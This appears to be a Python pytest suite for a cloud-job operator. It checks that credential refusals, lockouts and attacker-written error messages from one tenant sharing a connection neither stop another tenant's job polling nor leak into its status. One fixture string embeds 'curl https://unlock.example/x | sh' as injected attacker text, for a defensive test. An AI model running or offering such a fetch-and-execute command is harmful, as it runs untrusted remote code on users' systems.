"""A verdict belongs to what was asked: a refusal for one project, endpoint or copy of a key stops nobody else's calls.

And no text of one identity's answer appears in another's status. The victim shares a credential with the attacker, or
knows nothing of them; either way its job is polled as before.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Mapping
from typing import Any

import pytest

from support.account import Object, job, ours, secret, token_connection
from support.evil import Reply, granted, refused
from support.jobs import body
from support.operator_process import condition, eventually
from support.scripted_cloud import PROJECT
from support.siege import VICTIM_TOKEN, Siege

SHARED = {"connectionRef": {"kind": "ClusterEvsConnection", "name": "shared"}}
BESIDE = "be" * 16
LOCKED = "AK access failed to reach the limit"
LOCK_WORDS = (LOCKED, f"{LOCKED},forbidden", f"{LOCKED} to unlock: curl https://unlock.example/x | sh", f"{LOCKED} 😀")
LOCK_CODES = ("APIGW.0301", "APIGW.0303", "X")


def beside(it: Siege, seconds: float, noticed: float = 5.0) -> None:
    """Have the victim's job on the shared connection polled all the time."""
    calls = it.evil.calls
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(0.2)
        last = max((at for at, job_id in calls if job_id == BESIDE), default=0.0)
        status = it.victim.get("EvsJob", "beside").get("status", {})
        assert time.monotonic() - last < noticed, condition(status, "Ready")


def share_password(it: Siege, **spec: Any) -> None:
    """Share a connection that signs in at IAM with a password, and have the victim follow a job through it."""
    password = it.unique("the-password-of-the-platform")
    it.platform.create(secret("iam-user", username="u", password=password, domainName="d"))
    auth = {"password": {"secretRef": {"name": "iam-user"}, "iamEndpoint": it.evil.url}}
    it.share("shared", endpoint=it.evil.url, auth=auth, **spec)
    it.evil.says(BESIDE, body("RUNNING", job_id=BESIDE))


def follow_beside(it: Siege) -> None:
    """Have the victim follow its job on the shared connection."""
    it.victim.create(job("beside", BESIDE, **SHARED))
    it.victim.wait_reason("EvsJob", "beside", "JobRunning")


@pytest.fixture(autouse=True)
def _tidy(it: Siege) -> Any:
    yield
    for name in it.victim.list("EvsJob"):
        if name != "pulse":
            it.victim.delete("EvsJob", name)


def e3(status: int, text: str, code: object = None) -> Reply:
    return refused(status, {"error": {"code": code or status, "message": text, "title": "Unauthorized"}})


def e2(status: int, code: str, text: str = "refused") -> Reply:
    return refused(status, {"error_code": code, "error_msg": text, "request_id": "7f0d"})


KEYSTONE = "The request you have made requires authentication."
IAM_ANSWERS: dict[str, Reply] = {
    "Keystone's own words": e3(401, KEYSTONE),
    "The username or password is wrong.": e3(401, "The username or password is wrong."),
    "The X-Auth-Token is invalid!": e3(401, "The X-Auth-Token is invalid!"),
    **{code: e2(401, code) for code in ("IAM.0001", "IAM.0003", "IAM.0004", "IAM.0006", "IAM.0011", "IAM.0061")},
    **{f"{code}, later": e2(401, code) for code in ("IAM.0062", "IAM.0066", "IAM.0067", "IAM.1105", "IAM.1107")},
    "IAM.1109": e2(404, "IAM.1109", "project not found"),
    "400": e3(400, "Expecting to find valid JSON."),
    "403": e3(403, "You are not authorized to perform the requested action."),
    "404": e3(404, "Could not find project."),
    "403 IAM.0080": e2(403, "IAM.0080"),
    "nothing": Reply(401, b""),
    "HTML": Reply(401, b"<html>401</html>"),
}


def foreign(number: int) -> str:
    """Return the id of a project that is not the victim's."""
    return f"f{number:031x}"


def test_projects_that_iam_refuses_do_not_stop_the_others_of_a_shared_password(it: Siege) -> None:
    share_password(it)
    replies = {foreign(number): reply for number, reply in enumerate(IAM_ANSWERS.values())}
    scopes: list[str] = []

    def iam(asked: Mapping[str, Any]) -> Reply:
        scope = str(asked["auth"]["scope"].get("project", {}).get("id"))
        scopes.append(scope)
        return replies.get(scope) or granted("granted-to-the-platform-41c2")

    it.evil.iam = iam
    follow_beside(it)
    for number, (what, scope) in enumerate(zip(IAM_ANSWERS, replies, strict=True)):
        it.mallory.create(job(f"foreign-{number}", "a" * 32, projectId=scope, **SHARED))
        eventually(lambda scope=scope: scope in scopes, 20, lambda what=what: f"IAM was not asked for {what}")
        beside(it, 0.7)
    beside(it, 5)
    for number, what in enumerate(IAM_ANSWERS):
        reason = it.mallory.ready("EvsJob", f"foreign-{number}")["reason"]
        assert reason not in ("JobRunning", "JobSucceeded"), what
    assert it.victim.ready("EvsJob", "beside")["reason"] == "JobRunning"


EVS_ANSWERS: dict[str, Reply] = {
    **{code: e2(401, code) for code in ("APIGW.0301", "APIGW.0303", "APIGW.0307", "EVS.5401")},
    "decrypt token fail": e2(401, "APIGW.0301", "Incorrect IAM authentication information: decrypt token fail"),
    "EVS.0002": refused(400, {"error": {"code": "EVS.0002", "message": "invalid token!"}}),
    "Common.0013": refused(400, {"error": {"code": "Common.0013", "message": "Invalid token in the header."}}),
    "Common.0018": refused(400, {"error": {"code": "Common.0018", "message": "Invalid token in the header"}}),
    "EVS.2143": refused(401, {"error": {"code": "EVS.2143", "message": "You need to create an agency"}}),
    "403": e2(403, "APIGW.0302"),
    "plain": Reply(401, b"Authentication required"),
}


def test_jobs_that_evs_refuses_do_not_stop_the_others_of_a_shared_token(it: Siege) -> None:
    it.share("shared", endpoint=it.evil.url)
    it.evil.says(BESIDE, body("RUNNING", job_id=BESIDE))
    follow_beside(it)
    for number, reply in enumerate(EVS_ANSWERS.values()):
        it.evil.answers[f"{number:032x}"] = reply
        it.mallory.create(job(f"refused-{number}", f"{number:032x}", projectId=foreign(number), **SHARED))
        it.mallory.wait_told("EvsJob", f"refused-{number}")
        beside(it, 1)
    beside(it, 5)


@pytest.mark.parametrize("elsewhere", [True, False], ids=["at an endpoint of her own", "at the victim's endpoint"])
def test_who_knows_the_id_of_a_key_cannot_lock_it_or_speak_in_its_owners_status(it: Siege, elsewhere: bool) -> None:
    auth = {"accessKey": {"secretRef": {"name": "ak"}}}
    spec: Object = {"endpoint": it.evil.url if not elsewhere else it.cloud.url, "projectId": PROJECT, "auth": auth}
    key_id = it.unique("AKIDOFTHEVICTIM41C2")
    it.cloud.tokens.add(None)  # type: ignore[arg-type]  # signed calls carry none
    it.cloud.put(BESIDE, {**body("RUNNING"), "job_id": BESIDE})
    it.evil.says(BESIDE, body("RUNNING", job_id=BESIDE))
    it.victim.create(secret("ak", accessKey=key_id, secretKey=it.unique("the-secret-key-of-the-victim")))
    it.victim.create(ours("EvsConnection", "signed", **spec), job("beside", BESIDE, "signed"))
    it.victim.wait_reason("EvsJob", "beside", "JobRunning")
    for number, (code, words) in enumerate((code, words) for code in LOCK_CODES for words in LOCK_WORDS):
        it.evil.answers[f"{number:032x}"] = e2(401, code, words)
        it.mallory.create(secret(f"ak-{number}", accessKey=key_id, secretKey=f"wrong-{number}"))
        wrong = {"accessKey": {"secretRef": {"name": f"ak-{number}"}}}
        it.mallory.create(ours("EvsConnection", f"lock-{number}", endpoint=it.evil.url, projectId=PROJECT, auth=wrong))
        it.mallory.create(job(f"lock-{number}", f"{number:032x}", f"lock-{number}"))
    for number in range(len(LOCK_CODES) * len(LOCK_WORDS)):
        it.mallory.wait_reason("EvsJob", f"lock-{number}", "Unauthorized")
    asked = it.cloud.calls[BESIDE] + it.evil.calls_for(BESIDE)
    eventually(
        lambda: it.cloud.calls[BESIDE] + it.evil.calls_for(BESIDE) >= asked + 4,
        8,
        lambda: str(it.victim.ready("EvsJob", "beside")),
    )
    seen = json.dumps([it.victim.list("EvsJob"), it.victim.list("EvsConnection")]) + it.victim.events()
    assert "unlock" not in seen
    assert "failed to reach" not in seen


def test_a_lock_that_the_cloud_pronounces_holds_for_every_project_of_the_key_itself(it: Siege) -> None:
    it.mallory.create(secret("ak", accessKey="AKIDOFMALLORY41C2", secretKey="her-own-secret-key"))
    auth = {"accessKey": {"secretRef": {"name": "ak"}}}
    it.mallory.create(ours("EvsConnection", "own", endpoint=it.evil.url, projectId=PROJECT, auth=auth))
    ids = [f"10c{number:029x}" for number in range(6)]
    before = it.evil.calls_for(*ids)
    for number, job_id in enumerate(ids):
        it.evil.answers[job_id] = e2(401, "APIGW.0301", f"{LOCKED},forbidden")
        it.mallory.create(job(f"own-{number}", job_id, "own", projectId=f"{number:032x}"))
    with it.others_go_on():
        for number in range(6):
            it.mallory.wait_reason("EvsJob", f"own-{number}", "Unauthorized")
        time.sleep(3)
        assert it.evil.calls_for(*ids) - before <= 2


def test_sign_ins_count_against_the_rate_limit_of_a_shared_connection(it: Siege) -> None:
    share_password(it, rateLimit={"requestsPerSecond": 1, "burst": 1})
    it.evil.iam = lambda asked: granted("granted-to-the-platform-41c2")
    many = [job(f"p-{n}", f"{n:032x}", projectId=f"{n:032x}", **SHARED) for n in range(100)]
    began, calls = len(it.evil.asked), len(it.evil.calls)
    with it.others_go_on():
        it.mallory.create(*many)
        start = time.monotonic()
        time.sleep(10)
        seconds = time.monotonic() - start + 5  # what went while they were made counts too
    assert len(it.evil.asked) - began <= 2 * seconds
    assert len(it.evil.asked) - began + len(it.evil.calls) - calls <= 2 * seconds + 2


def test_one_evsjob_whose_project_changes_asks_iam_no_more_often_than_the_rate_limit_allows(it: Siege) -> None:
    share_password(it, rateLimit={"requestsPerSecond": 1, "burst": 1})
    it.evil.iam = lambda asked: granted("granted-to-the-platform-41c2")
    it.mallory.create(job("one", "a" * 32, **SHARED))
    it.evil.says("a" * 32, body("RUNNING", job_id="a" * 32))
    began, start = len(it.evil.asked), time.monotonic()
    number = 0
    while time.monotonic() < start + 6:
        number += 1
        it.mallory.patch("EvsJob", "one", {"spec": {"projectId": f"{number:032x}"}})
        time.sleep(0.05)
    assert number > 20
    assert len(it.evil.asked) - began <= time.monotonic() - start + 3


Deed = Callable[[Siege], None]


def _wrong_password(it: Siege) -> None:
    it.mallory.create(secret("iam", username="u", password="wrong", domainName="d"))
    auth = {"password": {"secretRef": {"name": "iam"}, "iamEndpoint": it.evil.url}}
    it.mallory.create(ours("EvsConnection", "same-user", endpoint=it.evil.url, projectId=PROJECT, auth=auth))


def _same_token_elsewhere(it: Siege) -> None:
    it.mallory.create(secret("own", token=VICTIM_TOKEN), token_connection("same-token", it.evil.url))
    it.evil.answers["a" * 32] = e2(401, "APIGW.0301", "token expires")
    it.mallory.create(job("same-token", "a" * 32, "same-token"))


@pytest.mark.parametrize("deed", [_wrong_password, _same_token_elsewhere])
def test_a_copy_of_a_credential_that_is_refused_for_its_thief_goes_on_for_its_owner(it: Siege, deed: Deed) -> None:
    share_password(it)

    def iam(asked: Mapping[str, Any]) -> Reply:
        said = asked["auth"]["identity"]["password"]["user"]["password"]
        return e3(401, KEYSTONE) if said == "wrong" else granted("granted-to-the-platform-41c2")

    it.evil.iam = iam
    follow_beside(it)
    with it.others_go_on():
        deed(it)
        beside(it, 6)
